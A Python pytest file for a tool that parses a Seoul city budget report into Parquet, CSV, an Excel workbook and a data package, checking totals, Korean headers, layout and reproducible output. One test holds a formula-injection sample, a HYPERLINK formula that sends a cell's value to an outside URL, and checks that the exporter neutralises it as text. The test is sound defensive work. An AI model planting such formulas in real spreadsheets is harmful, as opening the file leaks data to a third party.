"""`seoul-budget parse`: Parquet, CSV with BOM, one workbook and a data package per snapshot."""

from __future__ import annotations

import json
import shutil

import pandas as pd
import pytest
from bundled import with_aliases
from openpyxl import load_workbook

from seoul_budget.cli import main
from seoul_budget.schemas import SCHEMAS


def run_parse(report_path, out):
    return main(["parse", str(report_path), "--out", str(out)])


def test_parse_writes_every_table_in_every_format(report_path, tmp_path):
    assert run_parse(report_path, tmp_path) == 0
    folder = tmp_path / "2023-05-31"
    for table in SCHEMAS:
        frame = pd.read_parquet(folder / f"{table}.parquet")
        raw = (folder / f"{table}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), table  # BOM: Excel reads Korean as UTF-8
        from_csv = pd.read_csv(folder / f"{table}.csv", encoding="utf-8-sig")
        assert list(from_csv.columns) == list(frame.columns)
        assert len(from_csv) == len(frame)
    expenditure = pd.read_parquet(folder / "expenditure.parquet")
    assert str(expenditure.budget.dtype) == "Int64"
    assert expenditure.budget.sum() == 163_848_799_000


def test_workbook_has_a_sheet_per_table_with_korean_headers(report_path, tmp_path):
    run_parse(report_path, tmp_path)
    book = load_workbook(tmp_path / "2023-05-31" / "seoul_budget_2023-05-31.xlsx")
    assert set(SCHEMAS) <= set(book.sheetnames)
    sheet = book["expenditure"]
    headers = [cell.value for cell in sheet[1]]
    assert headers[:3] == ["부서", "회계", "사업"]
    assert headers[3] == "예산현액 (원)"
    assert sheet["D2"].value == 206_044_000  # line 487, 엠보팅 서비스 운영: 206,044천원
    assert "#,##0" in sheet["D2"].number_format
    assert book.sheetnames[-1] == "설명" and book.active.title == book.sheetnames[0] != "설명"


def test_workbook_reads_back_with_pandas_defaults(report_path, tmp_path):
    """One header row (Korean label with unit), money as integers, the printed totals."""
    run_parse(report_path, tmp_path)
    sheets = pd.read_excel(tmp_path / "2023-05-31" / "seoul_budget_2023-05-31.xlsx",
                           sheet_name=None)
    programs = sheets["expenditure"]
    assert len(programs) == 72  # 72 programs, no header row read as data
    for label in ("예산현액 (원)", "원인행위액 (원)", "지출액 (원)"):
        assert str(programs[label].dtype) == "int64", label
    # printed 계 of 세출예산 집행현황 (line 484): 예산현액 163,848,799천원
    assert programs["예산현액 (원)"].sum() == 163_848_799_000
    staffing = sheets["staffing"]
    assert staffing["정원 (명)"].sum() == 266 and staffing["현원 (명)"].sum() == 255
    about = sheets["설명"].astype(str).to_string()
    for text in ("기준일", "2023-05-31", "원 (KRW)", "정오표", "5건", "expenditure",
                 "세출예산 집행현황", "budget", "예산현액"):
        assert text in about, text


def _display_width(text: str) -> int:
    return sum(2 if "가" <= ch <= "힣" else 1 for ch in text)


def test_workbook_layout_filter_frozen_panes_and_hangul_widths(report_path, tmp_path):
    run_parse(report_path, tmp_path)
    book = load_workbook(tmp_path / "2023-05-31" / "seoul_budget_2023-05-31.xlsx")
    sheet = book["expenditure"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:K73"  # 11 columns, header + 72 programs
    programs = [row[0] for row in sheet.iter_rows(min_row=2, min_col=3, max_col=3,
                                                  values_only=True)]
    # Hangul counts double: the column is as wide as the longest program name on screen.
    assert sheet.column_dimensions["C"].width >= max(_display_width(p) for p in programs)
    for column in "DEF":  # every money column has a number format
        assert all("#,##0" in cell.number_format for (cell,) in
                   sheet.iter_rows(min_row=2, min_col=ord(column) - 64,
                                   max_col=ord(column) - 64))


def test_datapackage_is_valid_for_frictionless(report_path, tmp_path):
    from frictionless import validate

    run_parse(report_path, tmp_path)
    descriptor = tmp_path / "2023-05-31" / "datapackage.json"
    report = validate(str(descriptor))
    assert report.valid, report.flatten(["type", "note"])[:5]
    package = json.loads(descriptor.read_text("utf-8"))
    assert all(r["profile"] == "tabular-data-resource" for r in package["resources"])
    assert {r["encoding"] for r in package["resources"]} == {"utf-8"}
    fields = {f["name"]: f for r in package["resources"] if r["name"] == "corrections"
              for f in r["schema"]["fields"]}
    assert fields["reason"]["title"] == "사유"


def test_duckdb_reads_every_file_as_pandas_does(report_path, tmp_path):
    import duckdb

    run_parse(report_path, tmp_path)
    folder = tmp_path / "2023-05-31"
    for parquet in sorted(folder.glob("*.parquet")):
        frame = pd.read_parquet(parquet)
        from_duck = duckdb.sql(f"SELECT * FROM read_parquet('{parquet}')").df()
        assert list(from_duck.columns) == list(frame.columns), parquet.name
        assert len(from_duck) == len(frame), parquet.name
        from_csv = duckdb.sql(f"SELECT * FROM read_csv('{parquet.with_suffix('.csv')}', "
                              "header=true, all_varchar=true)").df()
        assert list(from_csv.columns) == list(frame.columns), parquet.name
        assert len(from_csv) == len(frame), parquet.name
        for column in frame.select_dtypes("number").columns:
            assert pd.to_numeric(from_duck[column]).sum() == pytest.approx(
                frame[column].sum()), (parquet.name, column)
            assert pd.to_numeric(from_csv[column]).sum() == pytest.approx(
                frame[column].sum()), (parquet.name, column)


PAYLOAD = '=HYPERLINK("https://example.org/?d="&C3,"x")'


def test_text_that_looks_like_a_formula_stays_text(report_path, tmp_path):
    """A revenue item named like a formula: CSV and Excel cells are text, figures numbers."""
    import csv

    from damage import edit_line, write_report

    # line 412: '에스플렉스센터 운영수입 (임대료, 관리비)', 7,313,751 / 7,768,577 천원
    text = edit_line(412, "에스플렉스센터 운영수입 (임대료, 관리비)", PAYLOAD)
    path = write_report(tmp_path / "raw" / "2023-05-31", text)
    assert main(["parse", str(path), "--out", str(tmp_path / "out")]) == 0
    folder = tmp_path / "out" / "2023-05-31"
    rows = list(csv.DictReader((folder / "revenue.csv").read_text("utf-8-sig").splitlines()))
    row = next(r for r in rows if r["source_line"] == "412")
    assert row["item"] == "'" + PAYLOAD
    assert row["budget"] == "7313751000"
    assert pd.read_parquet(folder / "revenue.parquet").item.eq(PAYLOAD).sum() == 1  # data kept
    sheet = load_workbook(folder / "seoul_budget_2023-05-31.xlsx")["revenue"]
    cells = {c.value: c for (c,) in sheet.iter_rows(min_col=4, max_col=4)}
    cell = cells["'" + PAYLOAD]
    assert cell.data_type == "s"
    figure = sheet.cell(row=cell.row, column=5)
    assert figure.value == 7_313_751_000 and figure.data_type == "n"


def test_datapackage_describes_fields_types_units(report_path, tmp_path):
    run_parse(report_path, tmp_path)
    package = json.loads((tmp_path / "2023-05-31" / "datapackage.json").read_text("utf-8"))
    resources = {r["name"]: r for r in package["resources"]}
    assert set(SCHEMAS) <= set(resources)
    fields = {f["name"]: f for f in resources["expenditure"]["schema"]["fields"]}
    assert fields["budget"]["type"] == "integer" and fields["budget"]["unit"] == "KRW"
    assert fields["budget"]["title"] == "예산현액" and "Budget" in fields["budget"]["description"]
    assert fields["program"]["type"] == "string"
    assert resources["staffing"]["schema"]["primaryKey"] == ["department"]


def test_outputs_are_byte_identical_across_runs(report_path, tmp_path):
    run_parse(report_path, tmp_path / "a")
    run_parse(report_path, tmp_path / "b")
    first = sorted((tmp_path / "a" / "2023-05-31").iterdir())
    assert first
    for path in first:
        assert path.read_bytes() == (tmp_path / "b" / "2023-05-31" / path.name).read_bytes(), \
            path.name


def test_a_bad_snapshot_writes_nothing(report_path, tmp_path, capsys):
    bad = tmp_path / "raw" / "2023-06-30" / "report.txt"
    bad.parent.mkdir(parents=True)
    bad.write_text("not a report\n", encoding="utf-8")
    out = tmp_path / "out"
    status = main(["parse", str(report_path), str(bad), "--out", str(out)])
    assert status == 2
    assert not out.exists() or not any(out.rglob("*"))
    err = capsys.readouterr().err
    assert str(bad) in err and err.count("\n") == 1  # one line, no traceback


def test_processed_tables_are_read_back_only_when_fresh(report_path, tmp_path):
    from seoul_budget.processed import load_snapshot

    raw = tmp_path / "raw" / "2023-05-31"
    raw.mkdir(parents=True)
    shutil.copy(report_path, raw / "report.txt")
    with_aliases(raw.parent)
    out = tmp_path / "processed"
    assert main(["parse", "--data-dir", str(tmp_path / "raw"), "--out", str(out)]) == 0
    parquet = out / "2023-05-31" / "staffing.parquet"
    frame = pd.read_parquet(parquet)
    frame.loc[0, "authorized"] = 999  # a marker only the processed file holds
    frame.to_parquet(parquet, index=False)
    from_processed = load_snapshot("2023-05-31", tmp_path / "raw", out)
    assert from_processed.staffing.authorized.iloc[0] == 999
    (raw / "report.txt").write_bytes((raw / "report.txt").read_bytes() + b"\n")  # raw changed
    reparsed = load_snapshot("2023-05-31", tmp_path / "raw", out)
    assert reparsed.staffing.authorized.iloc[0] == 35
